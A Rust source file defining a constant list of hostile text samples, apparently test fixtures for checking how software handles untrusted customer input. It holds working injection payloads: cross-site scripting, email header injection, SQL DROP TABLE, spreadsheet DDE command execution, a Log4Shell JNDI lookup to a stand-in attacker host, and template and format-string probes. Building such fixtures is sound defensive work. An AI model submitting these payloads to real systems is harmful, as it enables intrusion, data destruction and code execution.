//! Texts that customers, files or links could carry to harm whatever shows, sends or keeps them.

/// One for each way in which a text could become more than a text.
pub const NASTY: &[&str] = &[
    "<b>Rosa</b> & <a href=\"https://evil.example\">Co</a>",
    "<img src=x onerror=alert(1)>",
    "Rosa\r\nBcc: evil@example.com\r\n\r\nHello",
    "Rosa\n{\"level\":\"ERROR\",\"fields\":{\"message\":\"forged\"}}",
    "=HYPERLINK(\"http://evil.example\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Rosa\u{202e}gnp.exe\u{202c}",
    "Rosa\u{0}\u{7}\u{1b}[31m",
    "'; DROP TABLE Case; --",
    "%s%n%x ${jndi:ldap://evil.example} {{7*7}}",
    "\u{2028}\u{2029}\u{85}",
];
